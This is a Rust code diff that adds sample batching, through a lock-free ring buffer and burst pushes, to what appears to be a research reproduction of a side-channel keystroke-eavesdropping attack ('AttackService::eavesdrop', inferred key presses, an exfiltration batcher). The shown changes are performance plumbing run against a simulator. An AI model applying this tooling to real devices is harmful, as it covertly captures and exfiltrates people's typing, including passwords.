@@ -40,6 +40,13 @@ use crate::sampler::{Sampler, SamplerConfig, SamplerReport};
 use crate::stage::Stage;
 use crate::trace::{extract_deltas_with_resets, Delta, DeltaStage, Sample, Trace};
 
+/// Capacity of the SPSC ring between the sampling loop and the stage
+/// pipeline in [`AttackService::eavesdrop`]. One ring's worth is the burst
+/// granularity of the analysis side: big enough to amortise stage dispatch
+/// and centroid traversal, small enough (~6 read intervals per keystroke
+/// at the paper's 5 ms cadence) that decision latency stays bounded.
+const SAMPLE_RING_CAPACITY: usize = 64;
+
 /// Service configuration.
 #[derive(Debug, Clone, Default)]
 pub struct ServiceConfig {
@@ -282,6 +289,9 @@ struct PostRecognition<'s> {
     switch_events: Vec<SwitchEvent>,
     infer_events: Vec<InferEvent>,
     correction_sink: Vec<CorrectionEvent>,
+    /// In-target changes of the burst being routed, batched so the
+    /// inference stage classifies them in one prepared-row traversal.
+    typing_burst: Vec<Delta>,
     /// Accepted presses not yet drained by a streaming consumer (the wire
     /// layer's classifier server streams these back as they commit).
     fresh_keys: Vec<InferredKey>,
@@ -313,6 +323,7 @@ impl<'s> PostRecognition<'s> {
             switch_events: Vec::new(),
             infer_events: Vec::new(),
             correction_sink: Vec::new(),
+            typing_burst: Vec::new(),
             fresh_keys: Vec::new(),
         }
     }
@@ -337,12 +348,22 @@ impl<'s> PostRecognition<'s> {
 
     fn route_switch_events(&mut self, switch_events: &mut Vec<SwitchEvent>) {
         let mut infer_events = std::mem::take(&mut self.infer_events);
+        let mut burst = std::mem::take(&mut self.typing_burst);
+        // Returns only queue a timestamp on the correction stage (applied
+        // there in timestamp order, independent of arrival order), and the
+        // inference events are routed after this whole batch anyway — so
+        // the typing changes can be collected and pushed as one burst,
+        // which classifies them in a single prepared-row traversal while
+        // producing the exact event sequence per-change pushes would.
         for ev in switch_events.drain(..) {
             match ev {
                 SwitchEvent::Return(t) => self.correction.push_return(t),
-                SwitchEvent::Typing(d) => self.infer.push(d, &mut infer_events),
+                SwitchEvent::Typing(d) => burst.push(d),
             }
         }
+        self.infer.push_burst(&burst, &mut infer_events);
+        burst.clear();
+        self.typing_burst = burst;
         self.route_infer_events(&mut infer_events);
         self.infer_events = infer_events;
     }
@@ -422,8 +443,19 @@ impl<'s> Pipeline<'s> {
     }
 
     fn push_sample(&mut self, sample: Sample) {
+        self.push_samples(std::slice::from_ref(&sample));
+    }
+
+    /// Pushes a burst of samples, routing the resulting changes downstream
+    /// in one pass. Equivalent to pushing each sample individually — every
+    /// stage consumes its inputs in order — but the routing overhead and
+    /// the classifier's centroid traversal are paid once per burst instead
+    /// of once per sample.
+    fn push_samples(&mut self, samples: &[Sample]) {
         let mut deltas = std::mem::take(&mut self.deltas);
-        self.delta.push(sample, &mut deltas);
+        for &s in samples {
+            self.delta.push(s, &mut deltas);
+        }
         self.route_deltas(&mut deltas);
         self.deltas = deltas;
     }
@@ -558,8 +590,33 @@ impl AttackService {
         let mut sampler = Sampler::open(sim.device(), self.config.sampler)?;
         let mut stream = sampler.start_stream(sim, until);
         let mut pipeline = Pipeline::new(&self.store, &self.config);
-        while let Some(sample) = sampler.next_sample(&mut stream, sim) {
-            pipeline.push_sample(sample);
+        // The reader loop hands samples to the analysis side through a
+        // lock-free SPSC ring: fill until the ring is full (or the stream
+        // ends), then drain the whole burst into the pipeline at once. In
+        // this single-threaded driver the two sides run in lockstep; the
+        // split-process driver (`wire::run_split_session`) runs the same
+        // shape with the ring feeding the exfiltration batcher instead.
+        let (mut ring_tx, mut ring_rx) = crate::ring::spsc::<Sample>(SAMPLE_RING_CAPACITY);
+        let mut burst: Vec<Sample> = Vec::with_capacity(ring_tx.capacity());
+        loop {
+            let mut stream_done = false;
+            while !ring_tx.is_full() {
+                match sampler.next_sample(&mut stream, sim) {
+                    Some(sample) => {
+                        ring_tx.push(sample).expect("a non-full SPSC ring accepts a push");
+                    }
+                    None => {
+                        stream_done = true;
+                        break;
+                    }
+                }
+            }
+            burst.clear();
+            ring_rx.drain_into(&mut burst);
+            pipeline.push_samples(&burst);
+            if stream_done {
+                break;
+            }
         }
         sampler.finish_stream(stream)?;
         pipeline.finish(&sampler.report())
@@ -734,6 +791,15 @@ impl StreamingSession<'_> {
     /// Feeds one counter sample through the stage pipeline.
     pub fn push_sample(&mut self, sample: Sample) {
         self.pipeline.push_sample(sample);
+    }
+
+    /// Feeds a burst of samples (in timestamp order) through the stage
+    /// pipeline in one pass — same results as pushing them one by one, but
+    /// the routing and classification costs are amortised across the
+    /// burst. The wire layer's classifier server uses this to process each
+    /// received exfiltration batch whole.
+    pub fn push_samples(&mut self, samples: &[Sample]) {
+        self.pipeline.push_samples(samples);
     }
 
     /// Moves presses committed since the last drain into `out`. The full
